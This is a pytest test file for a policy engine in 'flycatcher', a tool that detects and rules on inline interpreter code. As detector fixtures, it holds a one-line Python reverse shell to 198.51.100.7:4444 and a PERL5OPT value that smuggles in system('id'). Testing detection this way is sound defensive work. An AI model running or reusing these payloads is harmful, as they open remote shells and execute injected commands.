"""Rules: which one decides, what nobody may write, what happens at their end, and what a saved report says of them."""

import datetime as dt
import json
import subprocess
import sys
from fnmatch import filter as matching

import msgspec
import pytest
from click.testing import CliRunner

from flycatcher.commands import cli
from flycatcher.config import Suppression, load
from flycatcher.config.profiles import NAMES, text_of
from flycatcher.core.detection import Policy, detect
from flycatcher.core.errors import FlycatcherError
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.core.payload.rules import rules as capabilities
from flycatcher.core.policy.decide import _TESTS, holds
from flycatcher.core.policy.rule import Match, Rule
from flycatcher.policies import Policies

TODAY = dt.datetime.now(dt.UTC).date()
LATER = TODAY + dt.timedelta(days=60)
SHELL_AWAY = "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"


def found(text="print(1)", **facts):
    return detect(Execution(argv=("python3", "-c", text), **facts))


def rule(action, name="one", until=None, **match):
    return Rule(name=name, action=action, match=Match(**match), reason="was looked at", owner="a", until=until)


@pytest.fixture
def write(tmp_path):
    def written(text):
        path = tmp_path / "flycatcher.toml"
        path.write_text(text)
        return path

    return written


TEXT = '[[rule]]\nname = "r"\naction = "{}"\nreason = "was looked at"\nowner = "a"\n{}\nmatch = {}\n'


@pytest.mark.parametrize(
    ("action", "until", "match", "said"),
    [
        ("allow", "until = 2099-01-01", '{ interpreter = ["python"] }', "whoever writes the text, or starts it, could"),
        ("allow", "until = 2099-01-01", '{ package = ["esbuild"], vector = ["argument"] }', "whoever writes the text, or"),
        ("allow", "until = 2099-01-01", '{ ancestor = ["/usr/bin/npm"], at_most = "low" }', "whoever writes the text, or"),
        ("allow", "until = 2099-01-01", '{ origin = ["file"], environment = ["ci"], hours = "01:00-02:00" }', "whoever"),
        ("allow", "until = 2099-01-01", '{ id = ["0123456789abcdef"], capability = ["file.*"] }', "can add a capability"),
        ("allow", "until = 2099-01-01", '{ user = ["root"] }', "may allow up to medium only"),
        ("allow", "until = 2099-01-01", '{ user = ["root"], at_most = "high" }', "may allow up to medium only"),
        ("allow", "", '{ id = ["0123456789abcdef"] }', "needs a last day"),
        ("deny", "", "{}", "it has no condition"),
    ],
)  # fmt: skip
def test_a_rule_that_a_payload_s_author_could_satisfy_is_an_error_with_its_line(write, action, until, match, said):
    with pytest.raises(FlycatcherError, match=said) as raised:
        load(write(TEXT.format(action, until, match)))
    assert "flycatcher.toml:" in str(raised.value)


@pytest.mark.parametrize(
    ("match", "said"),
    [
        ('{ interpreter = ["python", "pyton"] }', r"flycatcher.toml:\d+: rule\[0\].match.interpreter\[1\]: 'pyton' is no interpreter: did you mean 'python'"),
        ('{ capability = ["persistance.cron"] }', r"match.capability\[0\]: 'persistance.cron' is no capability: did you mean 'persistence.cron'"),
        ('{ capability = ["nothing.*"] }', "'nothing.*' is no capability"),
        ('{ at_least = "low", only = ["file.raed"] }', "match.only.0.: 'file.raed' is no capability: did you mean 'file.read'"),
    ],
    ids=str,
)  # fmt: skip
def test_a_name_that_nothing_has_is_an_error_with_a_suggestion(write, match, said):
    with pytest.raises(FlycatcherError, match=said):
        load(write(TEXT.format("deny", "", match)))


def test_an_interpreter_that_the_configuration_adds_may_be_named(write):
    table = '[interpreters.frob]\nnames = ["frob"]\nlanguage = "frob"\nexamples = [{ argv = ["frob"], texts = [] }]\n'
    assert load(write(TEXT.format("deny", "", '{ interpreter = ["frob"] }') + table)).config.rule[0].action == "deny"


def test_two_rules_of_one_name_are_an_error(write):
    with pytest.raises(FlycatcherError, match="is the name of an earlier rule"):
        load(write(TEXT.format("deny", "", '{ at_least = "high" }') * 2))


@pytest.mark.parametrize(
    ("match", "true", "false"),
    [
        ({"interpreter": ("python",)}, found(), detect(Execution(argv=("perl", "-e", "1")))),
        ({"vector": ("argument",)}, found(), detect(Execution(argv=("python3", "-"), stdin="pipe"))),
        ({"at_least": "high"}, found(SHELL_AWAY), found()),
        ({"at_most": "low"}, found(), found(SHELL_AWAY)),
        ({"capability": ("network.*",)}, found(SHELL_AWAY), found()),
        ({"only": ("file.*",)}, found(), found(SHELL_AWAY)),
        ({"id": (found().id,)}, found(), found("print(2)")),
        ({"shape": (found("print(1234)").shape,)}, found("print(5678)"), found("print(x)")),
        ({"origin": ("unseen",)}, detect(Execution(argv=("python3", "-"), stdin="pipe")), found()),
        ({"origin": ("file",)}, found(context={"text.written": "Makefile:3"}), found()),
        ({"ancestor": ("/usr/bin/npm*",)}, found(ancestry=(Process(exe="/usr/bin/npm-8"),)), found(ancestry=(Process(comm="/usr/bin/npm"),))),
        ({"package": ("es*",)}, found(env={"npm_package_name": "esbuild"}, context={"started_by.kind": "package manager"}), found()),
        ({"user": ("0",)}, found(process=Process(uid=0)), found(process=Process(uid=1))),
        ({"user": ("deploy",)}, found(context={"user.name": "deploy"}), found()),
        ({"image": ("registry/x@sha256:*",)}, found(context={"container.image": "registry/x@sha256:aa"}), found()),
        ({"environment": ("ci",)}, found(context={"environment": "ci"}), found(context={"environment": "staging"})),
        ({"days": ("mon",)}, found(fidelity=Fidelity(time="2026-11-30T01:00:00Z")), found(fidelity=Fidelity(time="2026-12-01T01:00:00Z"))),
        ({"hours": "22:00-06:00"}, found(fidelity=Fidelity(time="2026-11-30T05:59:00Z")), found(fidelity=Fidelity(time="2026-11-30T06:00:00Z"))),
        ({"hours": "22:00-06:00"}, found(fidelity=Fidelity(time="2026-11-30T00:30:00+02:00")), found()),
    ],
    ids=str,
)  # fmt: skip
def test_each_condition_holds_for_what_it_names_and_nothing_else(match, true, false):
    assert holds(rule("report", **match), true)
    assert not holds(rule("report", **match), false)


def test_every_condition_has_a_test():
    assert set(_TESTS) == set(Match.__struct_fields__)


def test_a_rule_that_allows_must_name_every_interpreter_and_vector_of_a_detection():
    both = detect(
        Execution(argv=("python3", "-c", "1"), env={"PYTHONSTARTUP": "/dev/shm/x", "PERL5OPT": "-Mstrict;system('id')"})
    )
    assert {each.vector for each in both.snippets} == {"argument", "environment"}
    assert not holds(rule("allow", vector=("argument",)), both)
    assert holds(rule("deny", vector=("argument",)), both)


def test_the_first_rule_that_holds_decides_and_suppressions_come_before_all():
    detection = found()
    rules = [
        rule("report", "first", interpreter=("perl",)),
        rule("deny", "second", interpreter=("python",)),
        rule("report", "third", at_least="none"),
    ]
    assert Policies((), rules).rule_of(detection).name == "second"
    accepted = Suppression(fingerprint=detection.id, reason="was looked at", owner="a", until=LATER)
    assert Policies([accepted], rules).outcome(detection) == Policy(
        "suppressed", f"was looked at (a, until {LATER})", rule=detection.id
    )
    assert Policies([accepted], rules, ignores=False).rule_of(detection).name == "second"


def test_nothing_is_allowed_of_which_a_part_was_not_seen():
    part = detect(
        Execution(
            argv=("python3", "-"),
            stdin="pipe",
            stdin_text="print(1)",
            fidelity=Fidelity(stdin="partial"),
            context={"user.name": "x"},
        )
    )
    assert Policies((), [rule("allow", user=("x",), at_most="medium", until=LATER)]).rule_of(part) is None
    assert Policies((), [rule("allow", id=(part.id,), until=LATER)]).rule_of(part) is None


def test_a_text_that_was_not_seen_could_be_what_a_rule_refuses():
    unseen = detect(Execution(argv=("python3", "-"), stdin="pipe"))
    assert Policies((), [rule("deny", capability=("network.*",))]).could_stop(unseen)
    assert not Policies((), [rule("deny", capability=("network.*",), user=("x",))]).could_stop(unseen)
    assert not Policies((), [rule("report", capability=("network.*",))]).could_stop(unseen)


@pytest.mark.parametrize(
    ("days", "said", "in_force"),
    [(15, "", True), (14, "ends in 14 days", True), (1, "ends in 1 day,", True), (0, "ends today", True), (-1, "ended on", False)],
)  # fmt: skip
def test_the_end_of_a_rule_is_announced_for_14_days_and_then_said_each_time(days, said, in_force):
    policies = Policies((), [rule("allow", id=(found().id,), until=TODAY + dt.timedelta(days=days))])
    remarks = policies.remarks()
    assert bool(remarks) == bool(said)
    assert said in "".join(remarks)
    assert (policies.action(found()) == "allow") is in_force
    assert ("ended" in policies.figures()["one"]) is not in_force


def test_hits_are_counted_and_the_summary_names_owner_reason_and_end():
    policies = Policies((), [rule("report", interpreter=("python",), until=LATER)])
    policies.outcome(found())
    policies.outcome(found("print(2)"))
    assert policies.figures() == {
        "one": {"action": "report", "hits": 2, "owner": "a", "reason": "was looked at", "until": LATER.isoformat()}
    }


def test_capture_marks_and_says_that_nothing_was_captured():
    outcome = Policies((), [rule("capture", at_least="none")]).outcome(found())
    assert (outcome.action, outcome.capture) == ("observed", True)
    assert outcome.reason == "marked for capture, nothing was captured: rule one: was looked at (a)"


@pytest.mark.parametrize("name", NAMES)
def test_a_profile_is_valid_and_names_capabilities_that_there_are(name, tmp_path):
    result = CliRunner().invoke(cli, ["config", "init", "--profile", name, str(tmp_path / "flycatcher.toml")])
    assert result.exit_code == 0
    config = load(tmp_path / "flycatcher.toml").config
    for each in config.rule:
        for pattern in (*each.match.capability, *each.match.only):
            assert matching([each.id for each in capabilities()], pattern), pattern
    again = CliRunner().invoke(cli, ["config", "init", "--profile", name, str(tmp_path / "flycatcher.toml")])
    assert again.exit_code == 1
    assert (tmp_path / "flycatcher.toml").read_text() == text_of(name)


def run(tmp_path, config, *options, text="print('ran')"):
    report = tmp_path / "r.jsonl"
    report.unlink(missing_ok=True)
    words = [
        sys.executable,
        "-m",
        "flycatcher",
        "run",
        "--config",
        str(config),
        "--report",
        str(report),
        *options,
        "--",
    ]
    done = subprocess.run([*words, sys.executable, "-c", text], capture_output=True, text=True, check=False)
    rows = [json.loads(line) for line in report.read_text().splitlines()]
    return done, rows


def test_run_refuses_by_a_rule_and_the_report_says_which(write, tmp_path):
    config = write(TEXT.format("deny", "", '{ interpreter = ["python"] }'))
    done, rows = run(tmp_path, config)
    assert "ran" not in done.stdout
    assert rows[0]["policy"] == {
        "action": "denied",
        "reason": "execve failed with EPERM before the program started; rule r: was looked at (a)",
        "rule": "r",
    }
    assert rows[-1]["summary"]["rules"]["r"]["hits"] == 1


def test_run_allows_by_a_rule_unless_ignores_are_off(write, tmp_path):
    config = write(TEXT.format("report", "", '{ interpreter = ["python"] }'))
    _, rows = run(tmp_path, config)
    allowed = write(TEXT.format("allow", f"until = {LATER}", f'{{ id = ["{rows[0]["id"]}"] }}'))
    done, rows = run(tmp_path, allowed, "--deny")
    assert "ran" in done.stdout
    assert rows[0]["policy"]["action"] == "suppressed"
    done, rows = run(tmp_path, allowed, "--deny", "--no-ignores")
    assert "ran" not in done.stdout
    assert rows[-1]["summary"]["rules"]["r"]["ignored"]


def test_config_test_says_what_would_change_and_warns_of_what_is_risky(write, tmp_path):
    config = write(TEXT.format("report", "", '{ interpreter = ["python"] }'))
    shown = found(SHELL_AWAY)
    report = tmp_path / "saved.jsonl"
    report.write_bytes(b"\n".join(msgspec.json.encode(each) for each in (shown, found(), found())))
    same = CliRunner().invoke(cli, ["config", "test", "--config", str(config), str(report)])
    assert same.stdout.splitlines() == ["rule r (report): 3 hits", "3 records, 0 with another outcome"]
    config = write(TEXT.format("allow", f"until = {LATER}", f'{{ id = ["{shown.id}"] }}'))
    risky = CliRunner().invoke(cli, ["config", "test", "--config", str(config), str(report)])
    assert risky.stdout.splitlines()[0] == "observed -> suppressed: 1 record (rule r)"
    assert (
        f"warning: rule r allows a detection of {shown.risk.level} risk: python argument: import socket" in risky.stderr
    )
    refused = write(TEXT.format("allow", "until = 2099-01-01", '{ interpreter = ["python"] }'))
    assert CliRunner().invoke(cli, ["config", "test", "--config", str(refused), str(report)]).exit_code == 1


def test_check_and_scan_apply_the_same_rules(write, tmp_path):
    config = write(TEXT.format("deny", "", '{ interpreter = ["python"] }'))
    told = CliRunner().invoke(cli, ["check", "--config", str(config), "--", "python3", "-c", "print(1)"])
    assert "policy: observed, was not refused here: rule r: was looked at (a)" in told.stdout
    rows = tmp_path / "rows.jsonl"
    rows.write_text('{"argv": ["python3", "-c", "print(1)"]}\n')
    answer = json.loads(CliRunner().invoke(cli, ["check", "--config", str(config), "--jsonl", str(rows)]).stdout)
    assert answer["policy"]["rule"] == "r"
    (tmp_path / "Makefile").write_text("all:\n\tpython3 -c 'print(1)'\n")
    scanned = subprocess.run(
        [
            sys.executable,
            "-m",
            "flycatcher",
            "scan",
            "--format",
            "json",
            "--no-history",
            "--config",
            str(config),
            str(tmp_path / "Makefile"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    record = json.loads(scanned.stdout)
    assert record["detections"][0]["policy"]["rule"] == "r"
    assert record["summary"]["rules"]["r"]["hits"] == 1
